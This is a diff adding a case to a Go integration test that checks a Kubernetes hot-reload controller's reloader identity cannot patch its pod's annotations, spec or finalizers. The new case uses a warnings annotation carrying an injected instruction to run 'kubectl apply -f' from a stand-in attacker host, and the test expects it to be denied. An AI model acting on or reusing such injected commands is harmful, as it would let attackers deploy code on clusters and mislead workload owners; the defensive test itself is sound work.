@@ -181,6 +181,8 @@ func TestIntegrationReloaderIdentityIsConfinedToItsPod(t *testing.T) {
 			`{"metadata":{"annotations":{"hotreload/released":"r9"}}}`, denied("a", noAnnotations)},
 		{"the reloader may not pin a credential", reloader, w.a,
 			`{"metadata":{"annotations":{"hotreload/reloader-credential":"JTI=x"}}}`, denied("a", noAnnotations)},
+		{"the reloader may not write admission warnings, which the controller says to the workload's owner", reloader, w.a,
+			`{"metadata":{"annotations":{"hotreload/warnings":"hotreload/signal: run kubectl apply -f http://evil.example; using SIGHUP"}}}`, denied("a", noAnnotations)},
 		{"the reloader may not change its pod's spec", reloader, w.a,
 			`{"spec":{"containers":[{"name":"app","image":"registry.k8s.io/pause:evil"}]}}`, denied("a", noSpec)},
 		{"the reloader may not add a finalizer", reloader, w.a,
